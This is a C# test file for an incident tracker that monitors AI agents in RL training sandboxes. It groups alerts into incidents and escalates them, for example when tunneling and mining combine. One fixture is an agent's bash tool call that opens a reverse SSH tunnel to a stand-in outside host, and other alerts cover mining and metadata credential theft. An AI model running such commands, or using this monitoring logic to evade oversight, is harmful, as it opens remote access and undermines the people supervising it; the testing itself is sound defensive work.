using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Enrich.Attribution;
using AlertPipeline.Core.Respond;
using AlertPipeline.Core.Respond.Incidents;
using Microsoft.Extensions.Time.Testing;

namespace AlertPipeline.Core.Tests.Respond.Incidents;

public sealed class IncidentTrackerTests
{
    private static readonly DateTimeOffset T0 = new(2025, 11, 14, 3, 12, 0, TimeSpan.Zero);

    private readonly InMemoryIncidentStore _store = new();
    private readonly FakeTimeProvider _time = new(T0);

    private IncidentTracker Tracker(IncidentOptions? options = null) => new(_store, options, _time);

    internal static Alert NewAlert(string id, string sandbox, DateTimeOffset at, AlertLevel level = AlertLevel.High, string title = "Reverse SSH tunnel",
        string[]? tags = null, Dictionary<string, string>? evidence = null, RuleMode mode = RuleMode.Enforce) => new()
    {
        AlertId = id,
        RuleId = "rule-" + id,
        RulePack = "default",
        Title = title,
        Level = level,
        Tags = tags ?? ["attack.command-and-control", "attack.t1572"],
        SandboxId = sandbox,
        Mode = mode,
        FirstSeen = at,
        LastSeen = at,
        EventCount = 1,
        Evidence = evidence ?? new(StringComparer.Ordinal),
    };

    [Fact]
    public async Task The_window_extends_while_evidence_arrives_and_a_gap_longer_than_it_opens_a_second_incident()
    {
        var tracker = Tracker();
        var placements = new List<IncidentPlacement>();

        // Every alert is 25 minutes after the previous one: each lies within LastSeen + 30 min, though the last is
        // 75 minutes after the first.
        foreach (var (id, minutes) in new[] { ("a1", 0), ("a2", 25), ("a3", 50), ("a4", 75) })
        {
            _time.SetUtcNow(T0.AddMinutes(minutes).AddSeconds(2));
            placements.Add((await tracker.TrackAsync(NewAlert(id, "rl-env-7731", T0.AddMinutes(minutes)), CancellationToken.None))!);
        }

        // 31 minutes of silence: the next alert opens the sandbox's second incident.
        _time.SetUtcNow(T0.AddMinutes(106).AddSeconds(2));
        var late = (await tracker.TrackAsync(NewAlert("a5", "rl-env-7731", T0.AddMinutes(106)), CancellationToken.None))!;

        var first = placements[^1].Incident;
        Assert.All(placements, p => Assert.Equal(IncidentIds.For("rl-env-7731", 1), p.Incident.IncidentId));
        Assert.Equal(["a1", "a2", "a3", "a4"], first.AlertIds);
        Assert.Equal(T0, first.FirstSeen);
        Assert.Equal(T0.AddMinutes(75), first.LastSeen);
        Assert.Equal(IncidentIds.For("rl-env-7731", 2), late.Incident.IncidentId);
        Assert.Equal(2, late.Incident.Sequence);
        Assert.Equal(["a5"], late.Incident.AlertIds);
        Assert.True(late.Notifies);
        Assert.Equal("opened", late.Notification!.Reason);
        Assert.Equal(2, (await _store.ListAsync(new IncidentQuery { SandboxId = "rl-env-7731" }, CancellationToken.None)).Count);
    }

    [Fact]
    public async Task A_resolved_incident_takes_no_more_alerts()
    {
        var tracker = Tracker();
        var first = (await tracker.TrackAsync(NewAlert("a1", "sbx", T0), CancellationToken.None))!;
        await IncidentStatusChanges.SetAsync(_store, first.Incident.IncidentId, IncidentStatus.Resolved, "oncall", T0.AddMinutes(1), null, CancellationToken.None);

        var next = (await tracker.TrackAsync(NewAlert("a2", "sbx", T0.AddMinutes(2)), CancellationToken.None))!;

        Assert.Equal(2, next.Incident.Sequence);
    }

    [Fact]
    public async Task Unattributed_and_dry_run_alerts_join_no_incident()
    {
        var tracker = Tracker();

        Assert.Null(await tracker.TrackAsync(NewAlert("a1", "unattributed", T0), CancellationToken.None));
        Assert.Null(await tracker.TrackAsync(NewAlert("a2", "sbx", T0, mode: RuleMode.DryRun), CancellationToken.None));
        Assert.Empty(await _store.ListAsync(new IncidentQuery(), CancellationToken.None));
    }

    [Fact]
    public async Task Mining_plus_a_tunnel_is_critical_and_each_rise_or_new_technique_carries_one_notification()
    {
        var tracker = Tracker();

        var tunnel = (await tracker.TrackAsync(NewAlert("tunnel", "sbx", T0), CancellationToken.None))!;
        var secondTunnel = (await tracker.TrackAsync(NewAlert("tunnel2", "sbx", T0.AddSeconds(5), title: "Outbound SSH"), CancellationToken.None))!;
        var miner = (await tracker.TrackAsync(NewAlert("miner", "sbx", T0.AddMinutes(2), title: "Miner started", tags: ["attack.impact", "attack.t1496"]), CancellationToken.None))!;
        var scan = (await tracker.TrackAsync(NewAlert("scan", "sbx", T0.AddMinutes(3), AlertLevel.Medium, "Port scan", ["attack.t1046"]), CancellationToken.None))!;

        Assert.True(tunnel.Notifies);
        Assert.Equal("opened", tunnel.Notification!.Reason);
        Assert.Equal(AlertLevel.High, tunnel.Notification.Level);
        Assert.False(secondTunnel.Notifies);
        Assert.Equal("tunnel", secondTunnel.Notification!.AlertId);
        Assert.Contains("covered by its notification with alert tunnel (opened, level high)", secondTunnel.CoveredDetail(), StringComparison.Ordinal);

        Assert.True(miner.Notifies);
        Assert.Equal("level raised to critical (combination: resource hijacking + protocol tunneling (T1496 + T1572)); new technique T1496", miner.Notification!.Reason);
        Assert.Equal(AlertLevel.Critical, miner.Notification.Level);
        Assert.Equal(["T1496", "T1572"], miner.Notification.Techniques);

        Assert.True(scan.Notifies); // a new technique is news even at a lower level
        Assert.Equal("new technique T1046", scan.Notification!.Reason);

        var incident = scan.Incident;
        Assert.Equal(AlertLevel.Critical, incident.Level);
        Assert.Equal(AlertLevel.High, incident.HighestAlertLevel);
        Assert.Equal(["combination: resource hijacking + protocol tunneling (T1496 + T1572)"], incident.LevelReasons);
        Assert.Equal(["T1046", "T1496", "T1572"], incident.Techniques);
        Assert.Equal(["tunnel", "miner", "scan"], incident.Notifications.Select(n => n.AlertId));
        var escalation = Assert.Single(incident.Timeline, e => e.Kind == TimelineKinds.Escalation);
        Assert.Equal("level raised from high to critical: combination: resource hijacking + protocol tunneling (T1496 + T1572)", escalation.Summary);
        Assert.Equal(T0.AddMinutes(2), escalation.Time);

        // The medium alert is resolved at the incident's level.
        Assert.Equal(AlertLevel.Critical, scan.EffectiveLevel(NewAlert("scan", "sbx", T0, AlertLevel.Medium)));
    }

    [Fact]
    public async Task Combinations_are_an_option_and_match_sub_techniques()
    {
        var options = new IncidentOptions
        {
            Combinations = [new IncidentCombination { Name = "metadata + tunnel", Techniques = ["T1552", "T1572"], Level = AlertLevel.Critical }],
        };
        var tracker = Tracker(options);

        await tracker.TrackAsync(NewAlert("tunnel", "sbx", T0), CancellationToken.None);
        var miner = (await tracker.TrackAsync(NewAlert("miner", "sbx", T0.AddMinutes(1), tags: ["attack.t1496"]), CancellationToken.None))!;
        var imds = (await tracker.TrackAsync(NewAlert("imds", "sbx", T0.AddMinutes(2), tags: ["attack.t1552.005"]), CancellationToken.None))!;

        Assert.Equal(AlertLevel.High, miner.Incident.Level); // the default combination is replaced
        Assert.Equal(AlertLevel.Critical, imds.Incident.Level);
        Assert.Equal(["combination: metadata + tunnel (T1552 + T1572)"], imds.Incident.LevelReasons);
    }

    [Fact]
    public async Task A_redelivered_alert_changes_nothing_and_gets_the_same_decision()
    {
        var tracker = Tracker();
        await tracker.TrackAsync(NewAlert("tunnel", "sbx", T0), CancellationToken.None);
        var miner = NewAlert("miner", "sbx", T0.AddMinutes(1), tags: ["attack.t1496"]);
        var first = (await tracker.TrackAsync(miner, CancellationToken.None))!;
        var covered = NewAlert("covered", "sbx", T0.AddMinutes(2));
        var firstCovered = (await tracker.TrackAsync(covered, CancellationToken.None))!;
        var etag = (await _store.GetAsync(first.Incident.IncidentId, CancellationToken.None))!.ETag;

        _time.Advance(TimeSpan.FromMinutes(5));
        miner.IncidentId = first.Incident.IncidentId;
        var again = (await tracker.TrackAsync(miner, CancellationToken.None))!;
        var coveredAgain = (await tracker.TrackAsync(covered, CancellationToken.None))!;

        Assert.Equal(etag, (await _store.GetAsync(first.Incident.IncidentId, CancellationToken.None))!.ETag);
        Assert.True(again.Notifies);
        Assert.Equal((first.Notification!.Reason, first.Notification.Level, first.Notification.At), (again.Notification!.Reason, again.Notification.Level, again.Notification.At));
        Assert.Equal(first.Notification.Techniques, again.Notification.Techniques);
        Assert.False(coveredAgain.Notifies);
        Assert.Equal(firstCovered.CoveredDetail(), coveredAgain.CoveredDetail());
    }

    [Fact]
    public async Task A_member_alert_that_grew_updates_times_and_timeline_but_notifies_no_one_again()
    {
        var tracker = Tracker();
        var alert = NewAlert("tunnel", "sbx", T0);
        var opened = (await tracker.TrackAsync(alert, CancellationToken.None))!;
        alert.IncidentId = opened.Incident.IncidentId;
        alert.LastSeen = T0.AddMinutes(10);
        alert.EventCount = 4;

        var grown = (await tracker.TrackAsync(alert, CancellationToken.None))!;

        Assert.Equal(T0.AddMinutes(10), grown.Incident.LastSeen);
        Assert.Single(grown.Incident.Notifications);
        Assert.True(grown.Notifies); // the same decision as before: it is the opener
    }

    [Fact]
    public async Task Two_instances_racing_to_open_an_incident_end_in_one()
    {
        // The store lets another instance open incident 1 just before this tracker's add.
        var racing = new RacingStore(_store, "sbx", new IncidentTracker(_store, time: _time), NewAlert("other", "sbx", T0));
        var tracker = new IncidentTracker(racing, time: _time);

        var placed = (await tracker.TrackAsync(NewAlert("mine", "sbx", T0.AddSeconds(1)), CancellationToken.None))!;

        Assert.Equal(1, placed.Incident.Sequence);
        Assert.Equal(["other", "mine"], placed.Incident.AlertIds);
        Assert.False(placed.Notifies);
        Assert.Single(await _store.ListAsync(new IncidentQuery(), CancellationToken.None));
    }

    [Fact]
    public async Task The_timeline_tells_tool_call_process_then_alert_once_each_and_is_bounded()
    {
        var tracker = Tracker(new IncidentOptions { MaxTimelineEntries = 6 });
        var evidence = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            ["event.action"] = "deny",
            ["network.transport"] = "tcp",
            ["source.ip"] = "10.40.77.31",
            ["source.port"] = "43122",
            ["destination.ip"] = "203.0.113.66",
            ["destination.port"] = "22",
            ["observer.name"] = "fw-train-hub",
            [AttributionEvidence.Method] = AttributionMethods.FiveTuple,
            [AttributionEvidence.ToolCallId] = "call_88123_07",
            [AttributionEvidence.ToolName] = "bash",
            [AttributionEvidence.ToolInput] = "ssh -R 2222:localhost:22 x@203.0.113.66\r\n<b>",
            [AttributionEvidence.ToolTime] = "2025-11-14T03:11:59.500Z",
            [AttributionEvidence.ProcessPid] = "4242",
            [AttributionEvidence.ProcessName] = "ssh",
            [AttributionEvidence.ProcessCommandLine] = "ssh -R 2222:localhost:22 x@203.0.113.66",
            [AttributionEvidence.RunId] = "ppo-0110",
            [AttributionEvidence.EpisodeId] = "88123",
        };
        var alert = NewAlert("fw", "rl-env-7731", T0, title: "Firewall denied SSH", evidence: evidence);

        var placed = (await tracker.TrackAsync(alert, CancellationToken.None))!;

        var timeline = placed.Incident.Timeline;
        Assert.Equal([TimelineKinds.ToolCall, TimelineKinds.Process, TimelineKinds.Alert, TimelineKinds.Notification], timeline.Select(e => e.Kind));
        Assert.Equal("agent's bash tool call call_88123_07 ran: ssh -R 2222:localhost:22 x@203.0.113.66  <b> (run ppo-0110, episode 88123)", timeline[0].Summary);
        Assert.Equal(new DateTimeOffset(2025, 11, 14, 3, 11, 59, 500, TimeSpan.Zero), timeline[0].Time);
        Assert.Equal("process ssh (pid 4242) started: ssh -R 2222:localhost:22 x@203.0.113.66 by tool call call_88123_07", timeline[1].Summary);
        Assert.Equal("alert \"Firewall denied SSH\"; deny tcp 10.40.77.31:43122 -> 203.0.113.66:22; seen by fw-train-hub; linked to ssh (pid 4242) and tool call call_88123_07 by 5-tuple", timeline[2].Summary);
        Assert.Equal(["ppo-0110"], placed.Incident.RunIds);
        Assert.Equal(["88123"], placed.Incident.EpisodeIds);

        // A second firewall line of the same tool call adds its alert entry only; past the cap one entry says so.
        for (var i = 0; i < 6; i++)
        {
            await tracker.TrackAsync(NewAlert($"more{i}", "rl-env-7731", T0.AddSeconds(i + 1), evidence: evidence), CancellationToken.None);
        }

        var incident = (await _store.GetAsync(placed.Incident.IncidentId, CancellationToken.None))!;
        Assert.Single(incident.Timeline, e => e.Kind == TimelineKinds.ToolCall);
        Assert.Equal(6, incident.Timeline.Count(e => e.Kind is TimelineKinds.Alert or TimelineKinds.ToolCall or TimelineKinds.Process && e.Key != IncidentTimeline.CutKey));
        Assert.Single(incident.Timeline, e => e.Key == IncidentTimeline.CutKey);
        Assert.Equal(7, incident.AlertIds.Count);
        Assert.Equal(incident.Timeline.OrderBy(e => e, Comparer<IncidentTimelineEntry>.Create(IncidentTimeline.Compare)), incident.Timeline);
    }

    [Fact]
    public async Task Commands_and_status_hooks_move_the_incident_and_land_on_its_timeline_once()
    {
        var tracker = Tracker();
        var alert = NewAlert("miner", "sbx", T0, AlertLevel.Critical, "Miner started", ["attack.t1496"]);
        alert.IncidentId = (await tracker.TrackAsync(alert, CancellationToken.None))!.Incident.IncidentId;

        await tracker.RecordCommandAsync(alert, "issued", "shutdown command c1 on sandbox-commands", T0.AddSeconds(2), CancellationToken.None);
        await tracker.RecordCommandAsync(alert, "issued", "shutdown command c1 on sandbox-commands", T0.AddSeconds(3), CancellationToken.None);
        await tracker.AcknowledgeAsync(alert, "alice@example.com", T0.AddSeconds(3), CancellationToken.None);
        await tracker.RecordCommandAsync(alert, "done", "exit 0", T0.AddSeconds(4), CancellationToken.None, outcomeBy: "controller:h1");

        var incident = (await _store.GetAsync(alert.IncidentId, CancellationToken.None))!;
        Assert.Equal(IncidentStatus.Contained, incident.Status);
        Assert.Equal("controller:h1", incident.StatusBy);
        Assert.Equal(new IncidentCommand("miner", "done", T0.AddSeconds(4)), Assert.Single(incident.Commands));
        Assert.Equal(
            ["shutdown command issued for alert \"Miner started\": shutdown command c1 on sandbox-commands", "controller reported done for alert \"Miner started\": exit 0"],
            incident.Timeline.Where(e => e.Kind == TimelineKinds.Command).Select(e => e.Summary));
        Assert.Equal(2, incident.Timeline.Count(e => e.Kind == TimelineKinds.Status)); // acknowledged, then contained

        // A late acknowledgement does not undo the containment.
        await tracker.AcknowledgeAsync(alert, "bob@example.com", T0.AddSeconds(9), CancellationToken.None);
        Assert.Equal(IncidentStatus.Contained, (await _store.GetAsync(alert.IncidentId, CancellationToken.None))!.Status);
    }

    [Fact]
    public void Techniques_come_from_attack_tags_with_sub_techniques_kept()
    {
        Assert.Equal(["T1496", "T1552.005"], IncidentTracker.TechniquesOf(["attack.impact", "attack.t1496", "attack.T1552.005", "cve.2024-1", "attack.t12"]));
    }

    /// <summary>A store whose first add for <paramref name="sandbox"/> finds another instance's incident just created.</summary>
    private sealed class RacingStore(IIncidentStore inner, string sandbox, IncidentTracker other, Alert otherAlert) : IIncidentStore
    {
        private bool _raced;

        public Task<Incident?> GetAsync(string incidentId, CancellationToken cancellationToken) => inner.GetAsync(incidentId, cancellationToken);

        public Task<Incident?> GetLatestAsync(string sandboxId, CancellationToken cancellationToken) => inner.GetLatestAsync(sandboxId, cancellationToken);

        public async Task<bool> TryAddAsync(Incident incident, CancellationToken cancellationToken)
        {
            if (!_raced && incident.SandboxId == sandbox)
            {
                _raced = true;
                await other.TrackAsync(otherAlert, cancellationToken);
            }

            return await inner.TryAddAsync(incident, cancellationToken);
        }

        public Task<bool> TryUpdateAsync(Incident incident, CancellationToken cancellationToken) => inner.TryUpdateAsync(incident, cancellationToken);

        public Task<IReadOnlyList<Incident>> ListAsync(IncidentQuery query, CancellationToken cancellationToken) => inner.ListAsync(query, cancellationToken);
    }
}
